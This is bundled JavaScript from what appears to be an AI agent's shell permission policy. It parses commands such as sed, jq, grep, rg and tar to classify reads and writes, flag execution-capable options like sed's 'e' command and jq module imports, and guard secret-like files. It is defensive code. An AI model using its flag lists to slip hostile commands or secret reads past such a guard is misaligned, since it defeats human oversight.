  const scan = scanProgram("date", args, DATE);
  const sets = hasOption(scan, "-s", "--set") || scan.operands.some((word) => !word.value.startsWith("+"));
  return { paths: optionPaths(scan, DATE, ctx), dangerous: [], readOnly: !sets };
};
var hostnameProgram = (args, ctx) => {
  const scan = scanProgram("hostname", args, { pathOptions: { "-F": "read", "--file": "read" } });
  const sets = scan.operands.length > 0 || hasOption(scan, "-F", "--file", "-b", "--boot");
  return {
    paths: optionPaths(scan, { pathOptions: { "-F": "read", "--file": "read" } }, ctx),
    dangerous: [],
    readOnly: !sets
  };
};
var jqProgram = (args, ctx) => {
  const paths = [];
  const dangerous = [];
  const operands = [];
  let fromFile = false;
  let valuesOnly = false;
  for (let i = 0; i < args.length; i++) {
    const word = args[i];
    const token = word.value;
    if (word.processSubstitution || token === "-" || !token.startsWith("-")) {
      operands.push(word);
      continue;
    }
    if (token === "--arg" || token === "--argjson") i += 2;
    else if (token === "--slurpfile" || token === "--rawfile") {
      const file = args[i + 2];
      if (file !== void 0) paths.push(...operandPaths("read", file, ctx));
      i += 2;
    } else if (token === "--args" || token === "--jsonargs") valuesOnly = true;
    else if (token === "--from-file") {
      fromFile = true;
      dangerous.push(dangerousOption("jq", "--from-file", token));
    } else if (token === "--indent") i++;
    else if (token === "-L" || token === "--library-path") {
      const dir = args[++i];
      if (dir !== void 0) paths.push(...operandPaths("read", dir, ctx));
    } else if (token.startsWith("-L")) paths.push(...pathUses("read", token.slice(2), "operand", ctx));
    else if (!token.startsWith("--") && token.includes("f")) {
      fromFile = true;
      dangerous.push(dangerousOption("jq", "-f", token));
    }
  }
  const [filter, ...files] = operands;
  if (fromFile && filter !== void 0) paths.push(...operandPaths("read", filter, ctx));
  if (!fromFile && filter !== void 0 && /\b(?:import|include)\b/.test(filter.value))
    dangerous.push(dangerousOption("jq", "<module import>", filter.value));
  if (!valuesOnly) paths.push(...operandsAs("read", files, ctx));
  return { paths, dangerous, readOnly: true };
};
var MAN = {
  shortArgs: "MPSsemRLEpr",
  longArgs: [
    "--manpath",
    "--pager",
    "--sections",
    "--extension",
    "--systems",
    "--preprocessor",
    "--recode",
    "--locale",
    "--prompt",
    "--encoding"
  ],
  longFlags: ["--html", "--local-file", "--gxditview"],
  pathOptions: { "-C": "read", "--config-file": "read" }
};
var manProgram = (args, ctx) => {
  const scan = scanProgram("man", args, MAN);
  const local = hasOption(scan, "-l", "--local-file");
  const files = scan.operands.filter((word) => local || word.value.includes("/"));
  const dangerous = flaggedOptions("man", scan);
  if (!local)
    dangerous.push(...files.slice(0, 1).map((word) => dangerousOption("man", "<page file>", word.value)));
  return {
    paths: [...optionPaths(scan, MAN, ctx), ...operandsAs("read", files, ctx)],
    dangerous,
    readOnly: true
  };
};
var printfProgram = (args) => {
  const first = args[0]?.value ?? "";
  if (first.startsWith("-v"))
    deny(
      "`printf -v` assigns a shell variable, which this analysis does not follow; print the value instead"
    );
  return { paths: [], dangerous: [], readOnly: true };
};
var envProgram = (args) => ({
  paths: [],
  dangerous: [],
  readOnly: args.every((word) => word.value === "-0" || word.value === "--null")
});
var MISC_PROGRAMS = {
  test: testProgram,
  "[": bracketProgram,
  "[[": testProgram,
  date: dateProgram,
  hostname: hostnameProgram,
  jq: jqProgram,
  man: manProgram,
  printf: printfProgram,
  env: envProgram,
  // Reached only as `command -v NAME` (any other form is unwrapped): it describes NAME, runs nothing.
  command: (args) => ({
    paths: [],
    dangerous: [],
    readOnly: args.some((word) => /^-[pvV]*[vV]/.test(word.value))
  })
};

// src/policy/shell/programs/search.ts
var GREP = {
  shortArgs: "efmABCdD",
  longArgs: [
    "--regexp",
    "--max-count",
    "--after-context",
    "--before-context",
    "--context",
    "--devices",
    "--directories",
    "--label",
    "--include",
    "--exclude",
    "--exclude-dir",
    "--group-separator",
    "--binary-files"
  ],
  longFlags: [
    "--recursive",
    "--dereference-recursive",
    "--color",
    "--colour",
    "--count",
    "--files-with-matches",
    "--files-without-match",
    "--fixed-strings"
  ],
  pathOptions: { "-f": "read", "--file": "read", "--exclude-from": "read" }
};
var GREP_HINT2 = "name the directories to search (grep -rn TODO src), or leave the secret-like entries out with --exclude=NAME and --exclude-dir=NAME";
function grepSkip(scan) {
  const excludeDirs = [];
  const files = [];
  for (const option of scan.options) {
    if (option.value === void 0 || option.candidates.length !== 1) continue;
    if (option.name === "--exclude-dir") excludeDirs.push(option.value);
    if (option.name === "--include" || option.name === "--exclude")
      files.push({ include: option.name === "--include", glob: option.value });
  }
  return { kind: "grep", excludeDirs, files };
}
function recursiveGrep(scan) {
  if (hasOption(scan, "-r", "-R", "--recursive", "--dereference-recursive")) return true;
  return scan.options.some(
    (o) => o.candidates.some((c) => c === "-d" || c === "--directories") && o.value === "recurse"
  );
}
function grepProgram(program, alwaysRecursive = false) {
  return (args, ctx) => {
    const scan = scanProgram(program, args, GREP);
    const patternGiven = hasOption(scan, "-e", "--regexp", "-f", "--file");
    const files = patternGiven ? scan.operands : scan.operands.slice(1);
    const recursive = alwaysRecursive || recursiveGrep(scan);
    const follow = hasOption(scan, "-R", "--dereference-recursive");
    const tree = {
      reader: alwaysRecursive ? program : `${program} ${follow ? "-R" : "-r"}`,
      follow,
      skip: grepSkip(scan),
      hint: GREP_HINT2
    };
    const read = [
      ...operandsAs("read", files, ctx),
      ...files.length === 0 && recursive ? cwdRead(ctx) : []
    ];
    const paths = [...optionPaths(scan, GREP, ctx), ...recursive ? withTree(read, tree) : read];
    return { paths, dangerous: flaggedOptions(program, scan), readOnly: true };
  };
}
var RG = {
  abbreviations: false,
  shortArgs: "ABCdEefgjMmrTt",
  longArgs: [
    "--after-context",
    "--before-context",
    "--context",
    "--context-separator",
    "--color",
    "--colors",
    "--dfa-size-limit",
    "--encoding",
    "--engine",
    "--field-context-separator",
    "--field-match-separator",
    "--glob",
    "--iglob",
    "--hostname-bin",
    "--hyperlink-format",
    "--max-columns",
    "--max-count",
    "--max-depth",
    "--max-filesize",
    "--path-separator",
    "--pre",
    "--pre-glob",
    "--regex-size-limit",
    "--regexp",
    "--replace",
    "--sort",
    "--sortr",
    "--threads",
    "--type",
    "--type-add",
    "--type-clear",
    "--type-not",
    "--generate"
  ],
  longFlags: [
    "--hidden",
    "--follow",
    "--files",
    "--type-list",
    "--glob-case-insensitive",
    "--unrestricted",
    "--help",
    "--version"
  ],
  pathOptions: { "-f": "read", "--file": "read", "--ignore-file": "read" }
};
var RG_HINT = "name the directories to search (rg TODO src), or leave the secret-like entries out with -g '!NAME'";
function unrestricted(scan) {
  let count = 0;
  for (const option of scan.options) if (option.name === "-u" || option.name === "--unrestricted") count++;
  return count;
}
function rgSkip(scan) {
  const caseless = hasOption(scan, "--glob-case-insensitive");
  const globs = scan.options.filter((o) => (o.name === "-g" || o.name === "--glob" || o.name === "--iglob") && o.value !== void 0).map((o) => {
    const value = o.value;
    const negated = value.startsWith("!");
    return { glob: negated ? value.slice(1) : value, negated, caseless: caseless || o.name === "--iglob" };
  });
  return {
    kind: "rg",
    hidden: hasOption(scan, "--hidden", "-.") || unrestricted(scan) >= 2,
    globs,
    otherWhitelists: hasOption(scan, "-t", "--type", "--type-add", "--ignore-file", "--pre-glob")
  };
}
var rgProgram = (args, ctx) => {
  const scan = scanProgram("rg", args, RG);
  const noPattern = hasOption(
    scan,
    "-e",
    "--regexp",
    "-f",
    "--file",
    "--files",
    "--type-list",
    "--generate",
    "--help",
    "-h",
    "--version",
    "-V"
  );
  const noContent = hasOption(
    scan,
    "--files",
    "--type-list",
    "--generate",
    "--help",
    "-h",
    "--version",
    "-V"
  );
  const files = noPattern ? scan.operands : scan.operands.slice(1);
  const read = [...operandsAs("read", files, ctx), ...files.length === 0 ? cwdRead(ctx) : []];
  const tree = {
    reader: "rg",
    follow: hasOption(scan, "-L", "--follow"),
    skip: rgSkip(scan),
    hint: RG_HINT
  };
  const paths = [...optionPaths(scan, RG, ctx), ...noContent ? read : withTree(read, tree)];
  return { paths, dangerous: flaggedOptions("rg", scan), readOnly: true };
};

// src/policy/shell/programs/sed-script.ts
var Unreadable = class extends Error {
};
function unreadable() {
  throw new Unreadable();
}
var SIMPLE = /* @__PURE__ */ new Set(["=", "d", "D", "g", "G", "h", "H", "n", "N", "p", "P", "x", "z", "F"]);
var WITH_NUMBER = /* @__PURE__ */ new Set(["l", "L", "q", "Q"]);
var WITH_LABEL = /* @__PURE__ */ new Set([":", "b", "t", "T", "v"]);
var WITH_TEXT = /* @__PURE__ */ new Set(["a", "i", "c"]);
var isFileCommand = (command) => command === "r" || command === "R" || command === "w" || command === "W";
function readSedScript(script) {
  try {
    return { ok: true, findings: new SedReader(script).read() };
  } catch (error) {
    if (error instanceof Unreadable) return { ok: false };
    throw error;
  }
}
var SedReader = class {
  constructor(script) {
    this.script = script;
  }
  script;
  at = 0;
  depth = 0;
  findings = [];
  read() {
    for (; ; ) {
      this.skipSeparators();
      if (this.at >= this.script.length) break;
      if (this.peek() === "#") {
        this.restOfLine();
        continue;
      }
      this.addressRange();
      this.negations();
      this.command(this.script[this.at++]);
    }
    if (this.depth !== 0) unreadable();
    return this.findings;
  }
  command(command) {
    if (command === void 0) unreadable();
    else if (command === "{") this.depth++;
    else if (command === "}") this.closeBlock();
    else if (SIMPLE.has(command)) this.endOfCommand();
    else if (WITH_NUMBER.has(command)) this.optionalNumber();
    else if (WITH_LABEL.has(command)) this.label();
    else if (WITH_TEXT.has(command)) this.skipText();
    else if (isFileCommand(command)) this.findings.push({ command, file: this.readFile() });
    else if (command === "e") {
      this.restOfLine();
      this.findings.push({ command: "e" });
    } else if (command === "s") this.substitute();
    else if (command === "y") this.transliterate();
    else unreadable();
  }
  // --- Addresses -------------------------------------------------------------------------------
  /** `addr`, `addr,addr2` or nothing, before the command. */
  addressRange() {
    if (!this.address(false)) return;
    this.skipBlanks();
    if (this.peek() !== ",") return;
    this.at++;
    this.skipBlanks();
    if (!this.address(true)) unreadable();
  }
  /** One address; the second of a range may also be `+N` or `~N`. False when none starts here. */
  address(second) {
    const c = this.peek();
    if (c === void 0) return false;
    if (/[0-9]/.test(c)) {
      this.lineAddress();
      return true;
    }
    if (c === "$") {
      this.at++;
      return true;
    }
    if (c === "/" || c === "\\") {
      this.regexAddress();
      return true;
    }
    if (second && (c === "+" || c === "~")) {
      this.at++;
      this.requireNumber();
      return true;
    }
    return false;
  }
  /** `N` or `first~step`. */
  lineAddress() {
    this.readNumber();
    if (this.peek() !== "~") return;
    this.at++;
    this.requireNumber();
  }
  /** `/re/` or `\cREc`, then the flags I and M. */
  regexAddress() {
    let delimiter = "/";
    if (this.peek() === "\\") {
      delimiter = this.script[this.at + 1] ?? unreadable();
      if (delimiter === "\n" || delimiter === "\\") unreadable();
      this.at++;
    }
    this.at++;
    this.skipDelimited(delimiter, true);
    while (this.peek() === "I" || this.peek() === "M") this.at++;
  }
  /** Any number of `!` (each may be followed by blanks), then blanks. */
  negations() {
    this.skipBlanks();
    while (this.peek() === "!") {
      this.at++;
      this.skipBlanks();
    }
  }
  // --- Command arguments -----------------------------------------------------------------------
  closeBlock() {
    if (--this.depth < 0) unreadable();
    this.endOfCommand();
  }
  /** l, L, q, Q: an optional number. */
  optionalNumber() {
    this.skipBlanks();
    this.readNumber();
    this.endOfCommand();
  }
  /** `s/re/replacement/flags`: the flags `e` and `w file` are what this reader is for. */
  substitute() {
    const delimiter = this.commandDelimiter();
    this.skipDelimited(delimiter, true);
    this.skipDelimited(delimiter, false);
    for (; ; ) {
      const c = this.peek();
      if (c === void 0) return;
      if ("gpiImM0123456789 	".includes(c)) {
        this.at++;
      } else if (c === "e") {
        this.findings.push({ command: "s///e" });
        this.at++;
      } else if (c === "w") {
        this.at++;
        this.findings.push({ command: "s///w", file: this.readFile() });
        return;
      } else {
        this.endOfCommand();
        return;
      }
    }
  }
  /** `y/abc/xyz/`: no regexes, so brackets are plain characters. */
  transliterate() {
    const delimiter = this.commandDelimiter();
    this.skipDelimited(delimiter, false);
    this.skipDelimited(delimiter, false);
    this.endOfCommand();
  }
  /** The delimiter right after `s` or `y`: any character but a newline or a backslash. */
  commandDelimiter() {
    const delimiter = this.peek();
    if (delimiter === void 0 || delimiter === "\n" || delimiter === "\\") unreadable();
    this.at++;
    return delimiter;
  }
  /** The file of r, R, w, W and s///w: the rest of the line after blanks, never empty. */
  readFile() {
    this.skipBlanks();
    const file = this.restOfLine();
    if (file === "") unreadable();
    return file;
  }
  /** GNU read_label: after blanks, up to whitespace or ';' (which it consumes); the next command may follow. */
  label() {
    this.skipBlanks();
    while (this.at < this.script.length && !/[\s;]/.test(this.script[this.at])) this.at++;
    this.at++;
  }
  /** Text of a/i/c: up to a newline that is not escaped by a backslash. */
  skipText() {
    while (this.at < this.script.length) {
      const c = this.script[this.at];
      if (c === "\\") {
        this.at += 2;
        continue;
      }
      if (c === "\n") return;
      this.at++;
    }
  }
  /** After a command: only blanks, then the end, a newline, `;`, `}` or a comment. */
  endOfCommand() {
    this.skipBlanks();
    const c = this.peek();
    if (c === void 0 || c === "\n" || c === ";" || c === "}" || c === "#") return;
    unreadable();
  }
  // --- Delimited text --------------------------------------------------------------------------
  /** Up to and past `delimiter`; backslash escapes the next character; in a regex, brackets hide it. */
  skipDelimited(delimiter, regex) {
    for (; ; ) {
      const c = this.script[this.at];
      if (c === void 0) unreadable();
      if (c === "\\") {
        if (this.script[this.at + 1] === void 0) unreadable();
        this.at += 2;
        continue;
      }
      if (c === delimiter) {
        this.at++;
        return;
      }
      if (c === "\n") unreadable();
      if (regex && c === "[") {
        this.skipBracket();
        continue;
      }
      this.at++;
    }
  }
  /** At "[": `[^]…]`, `[]…]`, and [:class:], [=equiv=], [.coll.] inside. */
  skipBracket() {
    const script = this.script;
    let j = this.at + 1;
    if (script[j] === "^") j++;
    if (script[j] === "]") j++;
    for (; ; ) {
      const c = script[j];
      if (c === void 0 || c === "\n") unreadable();
      if (c === "[" && (script[j + 1] === ":" || script[j + 1] === "=" || script[j + 1] === ".")) {
        const close = script.indexOf(`${script[j + 1]}]`, j + 2);
        if (close === -1) unreadable();
        j = close + 2;
        continue;
      }
      j++;
      if (c === "]") break;
    }
    this.at = j;
  }
  // --- Characters ------------------------------------------------------------------------------
  peek() {
    return this.script[this.at];
  }
  skipBlanks() {
    while (this.peek() === " " || this.peek() === "	") this.at++;
  }
  /** Between commands: blanks, newlines and semicolons. */
  skipSeparators() {
    while (this.at < this.script.length && /[ \t\n;]/.test(this.script[this.at])) this.at++;
  }
  restOfLine() {
    const end = this.script.indexOf("\n", this.at);
    const stop = end === -1 ? this.script.length : end;
    const text2 = this.script.slice(this.at, stop);
    this.at = stop;
    return text2;
  }
  /** Digits, if any; true when there was at least one. */
  readNumber() {
    const start = this.at;
    while (/[0-9]/.test(this.peek() ?? "")) this.at++;
    return this.at > start;
  }
  requireNumber() {
    if (!this.readNumber()) unreadable();
  }
};

// src/policy/shell/programs/sed.ts
var SED = {
  shortArgs: "el",
  longArgs: ["--expression", "--line-length"],
  longFlags: [
    "--quiet",
    "--silent",
    "--in-place",
    "--regexp-extended",
    "--separate",
    "--null-data",
    "--unbuffered",
    "--posix",
    "--debug",
    "--sandbox",
    "--follow-symlinks",
    "--binary"
  ],
  pathOptions: { "-f": "read", "--file": "read" }
};
var sedProgram = (args, ctx) => {
  const scan = scanProgram("sed", args, SED);
  const dangerous = flaggedOptions("sed", scan);
  const paths = optionPaths(scan, SED, ctx);
  const expressions = scan.options.filter(
    (o) => o.candidates.includes("-e") || o.candidates.includes("--expression")
  );
  const fromFile = hasOption(scan, "-f", "--file");
  const scripts = expressions.map((o) => o.value ?? "");
  let files = scan.operands;
  if (expressions.length === 0 && !fromFile) {
    const first = scan.operands[0];
    if (first !== void 0) scripts.push(first.value);
    files = scan.operands.slice(1);
  }
  if (scripts.length > 0) {
    const script = readSedScript(scripts.join("\n"));
    if (!script.ok) dangerous.push(dangerousOption("sed", "<script>", scripts.join("; ")));
    else
      for (const finding of script.findings) {
        dangerous.push(dangerousOption("sed", finding.command, finding.command));
        if ("file" in finding)
          paths.push(
            ...pathUses(
              finding.command.endsWith("w") || finding.command === "W" ? "write" : "read",
              finding.file,
              "operand",
              ctx
            )
          );
      }
  }
  const inPlace = hasOption(scan, "-i", "--in-place");
  paths.push(...operandsAs(inPlace ? "write" : "read", files, ctx));
  return { paths, dangerous: dedupe(dangerous), readOnly: true };
};
function dedupe(entries) {
  const seen = /* @__PURE__ */ new Set();
  return entries.filter((entry) => {
    const key = `${entry.option}\0${entry.token ?? ""}`;
    if (seen.has(key)) return false;
    seen.add(key);
    return true;
  });
}

// src/policy/shell/programs/simple.ts
var READ_NONE = { operands: "none" };
var SIMPLE_PROGRAMS = {
  // Read their file operands and print.
  cat: {},
  tac: { shortArgs: "s", longArgs: ["--separator"] },
  nl: {
    shortArgs: "bdfhilnsvw",
    longArgs: [
      "--body-numbering",
      "--section-delimiter",
      "--footer-numbering",
      "--header-numbering",
      "--line-increment",
      "--join-blank-lines",
      "--number-format",
      "--number-separator",
      "--starting-line-number",
      "--number-width"
    ]
  },
  head: { shortArgs: "nc", longArgs: ["--lines", "--bytes"] },
  // `tail -f` never ends, but has no side effect: it stays read-only (the Bash timeout ends it).
  tail: {
    shortArgs: "ncs",
    longArgs: ["--lines", "--bytes", "--sleep-interval", "--pid", "--max-unchanged-stats"],
    longFlags: ["--follow", "--retry"]
  },
  wc: { pathOptions: { "--files0-from": "read" } },
  cut: {
    shortArgs: "bcdf",
    longArgs: ["--bytes", "--characters", "--delimiter", "--fields", "--output-delimiter"]
  },
  paste: { shortArgs: "d", longArgs: ["--delimiters"] },
  join: { shortArgs: "12ejot", longArgs: [] },
  comm: { longArgs: ["--output-delimiter"] },
  cmp: { shortArgs: "in", longArgs: ["--ignore-initial", "--bytes"] },
  sort: {
    shortArgs: "ktS",
    longArgs: [
      "--key",
      "--field-separator",
      "--buffer-size",
      "--parallel",
      "--batch-size",
      "--compress-program",
      "--sort"
    ],
    pathOptions: {
      "-o": "write",
      "--output": "write",
      "-T": "write",
      "--temporary-directory": "write",
      "--files0-from": "read",
      "--random-source": "read"
    }
  },
  fold: { shortArgs: "w", longArgs: ["--width"] },
  fmt: { shortArgs: "wpg", longArgs: ["--width", "--prefix", "--goal"] },
  rev: {},
  expand: { shortArgs: "t", longArgs: ["--tabs"] },
  unexpand: { shortArgs: "t", longArgs: ["--tabs"] },
  column: {
    shortArgs: "csoNRHEWOl",
    longArgs: [
      "--columns",
      "--separator",
      "--output-separator",
      "--table-columns",
      "--table-right",
      "--table-hide",
      "--table-name",
      "--table-wrap",
      "--table-noextreme",
      "--table-order",
      "--table-truncate"
    ]
  },
  // binutils: `@FILE` operands are response files, read for more arguments.
  strings: {
    responseFiles: true,
    shortArgs: "ntesT",
    longArgs: ["--bytes", "--radix", "--encoding", "--output-separator", "--target"]
  },
  od: {
    shortArgs: "AjNStw",
    longArgs: [
      "--address-radix",
      "--skip-bytes",
      "--read-bytes",
      "--strings",
      "--format",
      "--width",
      "--endian"
    ]
  },
  hexdump: { shortArgs: "enms", pathOptions: { "-f": "read" } },
  base64: { shortArgs: "w", longArgs: ["--wrap"] },
  base32: { shortArgs: "w", longArgs: ["--wrap"] },
  // Checksum programs; `-c` checks files named inside the listed file, which this cannot see.
  md5sum: { notReadOnlyWith: ["-c", "--check"] },
  sha1sum: { notReadOnlyWith: ["-c", "--check"] },
  sha224sum: { notReadOnlyWith: ["-c", "--check"] },
  sha256sum: { notReadOnlyWith: ["-c", "--check"] },
  sha384sum: { notReadOnlyWith: ["-c", "--check"] },
  sha512sum: { notReadOnlyWith: ["-c", "--check"] },
  b2sum: { shortArgs: "l", longArgs: ["--length"], notReadOnlyWith: ["-c", "--check"] },
  cksum: { shortArgs: "al", longArgs: ["--algorithm", "--length"], notReadOnlyWith: ["-c", "--check"] },
  sum: {},
  // File metadata.
  ls: {
    shortArgs: "ITw",
    longArgs: [
      "--block-size",
      "--format",
      "--hide",
      "--ignore",
      "--indicator-style",
      "--quoting-style",
      "--sort",
      "--time",
      "--time-style",
      "--tabsize",
      "--width"
    ],
    defaultsToCwd: true
  },
  stat: { shortArgs: "c", longArgs: ["--format", "--printf"] },
  du: {
    shortArgs: "dBt",
    longArgs: ["--max-depth", "--block-size", "--threshold", "--exclude", "--time-style"],
    pathOptions: { "-X": "read", "--exclude-from": "read", "--files0-from": "read" },
    defaultsToCwd: true
  },
  df: { shortArgs: "Btx", longArgs: ["--block-size", "--type", "--exclude-type"] },
  realpath: { pathOptions: { "--relative-to": "read", "--relative-base": "read" } },
  readlink: {},
  file: {
    shortArgs: "FeP",
    longArgs: ["--separator", "--exclude", "--exclude-quiet", "--parameter"],
    pathOptions: { "-m": "read", "--magic-file": "read", "-f": "read", "--files-from": "read" },
    notReadOnlyWith: ["-C", "--compile"]
  },
  tree: {
    shortArgs: "LPIHT",
    longArgs: ["--charset", "--filelimit", "--timefmt", "--sort", "--hintro", "--houtro"],
    pathOptions: { "-o": "write", "--gitfile": "read", "--infofile": "read" },
    defaultsToCwd: true
  },
  // No file operands.
  echo: READ_NONE,
  pwd: READ_NONE,
  true: READ_NONE,
  false: READ_NONE,
  ":": READ_NONE,
  basename: { operands: "none", shortArgs: "s", longArgs: ["--suffix"] },
  dirname: READ_NONE,
  tr: READ_NONE,
  which: READ_NONE,
  whereis: READ_NONE,
  type: READ_NONE,
  uname: READ_NONE,
  whoami: READ_NONE,
  id: READ_NONE,
  groups: READ_NONE,
  nproc: READ_NONE,
  arch: READ_NONE,
  uptime: READ_NONE,
  tty: READ_NONE,
  locale: READ_NONE,
  seq: { operands: "none", shortArgs: "fs", longArgs: ["--format", "--separator"] },
  expr: READ_NONE,
  sleep: READ_NONE,
  yes: READ_NONE,
  // Not read-only, operands are read: pagers run programs (LESSOPEN, `!` commands, `v` editors).
  less: {
    readOnly: false,
    shortArgs: "bhjkoOpPtTxyz#",
    pathOptions: { "-o": "write", "-O": "write", "-k": "read" }
  },
  more: { readOnly: false, shortArgs: "n" },
  // Print the environment: the agent's is an allow-list without secrets (src/policy/env.ts).
  printenv: READ_NONE,
  // Write their operands.
  tee: { operands: "write", readOnly: false },
  rmdir: { operands: "write", readOnly: false },
  unlink: { operands: "write", readOnly: false },
  shred: { operands: "write", readOnly: false, shortArgs: "nsu" },
  mkdir: { operands: "write", readOnly: false, shortArgs: "m", longArgs: ["--mode", "--context"] },
  touch: {
    operands: "write",
    readOnly: false,
    shortArgs: "dt",
    longArgs: ["--date", "--time"],
    pathOptions: { "-r": "read", "--reference": "read" }
  },
  truncate: {
    operands: "write",
    readOnly: false,
    shortArgs: "so",
    longArgs: ["--size", "--io-blocks"],
    pathOptions: { "-r": "read", "--reference": "read" }
  }
};

// src/policy/shell/programs/tar.ts
var SHORT_WITH_VALUE = "fCbLNTXVgKIFH";
var TAR = {
  shortArgs: SHORT_WITH_VALUE,
  longArgs: [
    "--blocking-factor",
    "--tape-length",
    "--newer",
    "--after-date",
    "--newer-mtime",
    "--exclude",
    "--label",
    "--starting-file",
    "--use-compress-program",
    "--info-script",
    "--new-volume-script",
    "--format",
    "--checkpoint-action",
    "--to-command",
    "--rsh-command",
    "--rmt-command",
    "--transform",
    "--xform",
    "--owner",
    "--group",
    "--mode",
    "--mtime",
    "--strip-components",
    "--suffix",
    "--warning",
    "--record-size",
    "--sort",
    "--level",
    "--pax-option",
    "--quoting-style",
    "--quote-chars",
    "--no-quote-chars",
    "--hole-detection"
  ],
  longFlags: [
    "--create",
    "--extract",
    "--get",
    "--list",
    "--append",
    "--update",
    "--catenate",
    "--concatenate",
    "--diff",
    "--compare",
    "--delete",
    "--test-label",
    "--force-local",
    "--remove-files",
    "--to-stdout",
    "--dereference"
  ],
  pathOptions: {
    "-f": "read",
    "--file": "read",
    "-C": "read",
    "--directory": "read",
    "-T": "read",
    "--files-from": "read",
    "-X": "read",
    "--exclude-from": "read",
    "-g": "write",
    "--listed-incremental": "write",
    "--index-file": "write",
    "--volno-file": "write"
  }
};
function plain(value) {
  return { value, glob: false, optionLikeGlob: false, quoted: false, processSubstitution: false };
}
function modernise(args) {
  const first = args[0];
  if (first === void 0 || first.value.startsWith("-") || first.processSubstitution) return [...args];
  const out = [];
  let next = 1;
  for (const letter of first.value) {
    out.push(plain(`-${letter}`));
    if (SHORT_WITH_VALUE.includes(letter) && next < args.length) out.push(args[next++]);
  }
  return [...out, ...args.slice(next)];
}
var EXTRACTED = { writer: "tar -x", kind: "names" };
var tarProgram = (args, ctx) => {
  const scan = scanProgram("tar", modernise(args), TAR);
  const creates = hasOption(
    scan,
    "-c",
    "--create",
    "-r",
    "--append",
    "-u",
    "--update",
    "-A",
    "--catenate",
    "--concatenate",
    "--delete"
  );
  const extracts = hasOption(scan, "-x", "--extract", "--get");
  const dangerous = flaggedOptions("tar", scan).filter(
    (d) => creates || d.option !== "-T" && d.option !== "--files-from"
  );
  const pathOptions = {
    ...TAR.pathOptions,
    "-f": creates ? "write" : "read",
    "--file": creates ? "write" : "read"
  };
  if (extracts) {
    delete pathOptions["-C"];
    delete pathOptions["--directory"];
  }
  const kinds = { ...TAR, pathOptions };
  const paths = optionPaths(scan, kinds, ctx);
  for (const option of scan.options) {
    if (!option.candidates.some((c) => c === "-f" || c === "--file") || option.value === void 0) continue;
    if (option.value.includes(":") && !hasOption(scan, "--force-local"))
      dangerous.push(dangerousOption("tar", "<remote archive>", option.value));
  }
  if (creates) {
    const members = operandsAs(hasOption(scan, "--remove-files") ? "write" : "read", scan.operands, ctx);
    const tree = {
      reader: "tar -c",
      follow: hasOption(scan, "-h", "--dereference"),
      hint: "archive directories that hold no secret-like files, or name the files"
    };
    paths.push(...members.map((use) => use.kind === "read" ? { ...use, tree } : use));
  }
  if (extracts && !hasOption(scan, "-O", "--to-stdout")) {
    const dirs = scan.options.flatMap(
      (option) => option.candidates.some((c) => c === "-C" || c === "--directory") && option.value !== void 0 ? pathUses("write", option.value, "operand", ctx, option.valueWord ?? false) : []
    );
    if (!hasOption(scan, "-C", "--directory")) dirs.push(...pathUses("write", ".", "operand", ctx));
    paths.push(...dirs.map((use) => ({ ...use, replaces: EXTRACTED })));
  }
  const readOnly = !creates && !extracts && hasOption(scan, "-t", "--list", "-d", "--diff", "--compare");
  return { paths, dangerous, readOnly };
};

// src/policy/shell/programs/unzip.ts
var NOT_EXTRACTING = /[lvtzZpc]/;
var EXTRACTED2 = { writer: "unzip", kind: "names" };
var unzipProgram = (args, ctx) => {
  const dangerous = [];
  let archive;
  let directory;
  let directoryWord;
  let extracting = true;
  for (let i = 0; i < args.length; i++) {
    const word = args[i];
    const token = word.value;
    const option = !word.processSubstitution && token.startsWith("-") && token.length > 1;
    if (!option) {
      archive ??= word;
      continue;
    }
    if (token === "-d") {
      directoryWord = args[++i];
      directory = directoryWord?.value;
    } else if (token.startsWith("-d")) directory = token.slice(2);
    else if (token === "-P") i++;
    else {
      if (NOT_EXTRACTING.test(token.slice(1))) extracting = false;
      if (token.includes(":")) dangerous.push(dangerousOption("unzip", "-:", token));
    }
  }
  const paths = archive === void 0 ? [] : operandPaths("read", archive, ctx);
  if (extracting) {
    const target = directory === void 0 ? pathUses("write", ".", "operand", ctx) : pathUses("write", directory, "operand", ctx, directoryWord ?? false);
    paths.push(...target.map((use) => ({ ...use, replaces: EXTRACTED2 })));
  }
  return { paths, dangerous, readOnly: !extracting };
};

// src/policy/shell/programs/versions.ts
var VERSION_ARGUMENTS = lookupTable({
  node: ["--version", "-v"],
  nodejs: ["--version", "-v"],
  npm: ["--version", "-v"],
  npx: ["--version", "-v"],
  deno: ["--version", "-V"],
  python: ["--version", "-V", "-VV"],
  python3: ["--version", "-V", "-VV"],
  pip: ["--version", "-V"],
  pip3: ["--version", "-V"],
  uv: ["--version", "-V", "version"],
  perl: ["--version", "-v"],
  ruby: ["--version", "-v"],
  php: ["--version", "-v"],
  cargo: ["--version", "-V", "version"],
  rustc: ["--version", "-V"],
  go: ["version"],
  make: ["--version", "-v"],
  gcc: ["--version"],
  "g++": ["--version"],
  clang: ["--version"],
  java: ["--version", "-version"],
  javac: ["--version", "-version"],
  tsc: ["--version", "-v"],
  jq: ["--version"],
  rg: ["--version", "-V"],
  grep: ["--version", "-V"],
  sed: ["--version"],
  awk: ["--version", "-V"],
  gawk: ["--version", "-V"],
  tar: ["--version"],
  bwrap: ["--version"]
});
var PYTHON_VERSIONED = /^python3\.\d+$/;
function isVersionQuery(name, args) {
  const word = args.length === 1 ? args[0] : void 0;
  if (word === void 0 || word.glob || word.processSubstitution) return false;
  const accepted = VERSION_ARGUMENTS[PYTHON_VERSIONED.test(name) ? "python3" : name];
  return accepted?.includes(word.value) === true;
}

// src/policy/shell/programs/index.ts
var PROGRAMS = new Map([
  ...Object.entries(SIMPLE_PROGRAMS).map(([name, spec]) => [
    name,
    fileProgram(name, spec)
  ]),
  ...Object.entries(FILE_OPERATIONS),
  ...Object.entries(MISC_PROGRAMS),
  ["grep", grepProgram("grep")],
  ["egrep", grepProgram("egrep")],
  ["fgrep", grepProgram("fgrep")],
  ["rgrep", grepProgram("rgrep", true)],
  ["rg", rgProgram],
  ["find", findProgram],
  ["diff", diffProgram],
  ["sed", sedProgram],
  ["git", gitProgram],
  ["tar", tarProgram],
  ["unzip", unzipProgram],
  // Runners analyse the command they run with the analyzer of its program: looked up lazily.
  ...Object.entries(runnerPrograms((name) => programAnalyzer(name)))
]);
var VERSION_ONLY = () => ({ paths: [], dangerous: [], readOnly: true });
function programAnalyzer(name) {
  if (name.includes("/")) return void 0;
  const analyzer = PROGRAMS.get(name) ?? interpreterFor(name);
  return (args, ctx) => isVersionQuery(name, args) ? VERSION_ONLY(args, ctx) : analyzer?.(args, ctx) ?? UNKNOWN_PROGRAM;
}
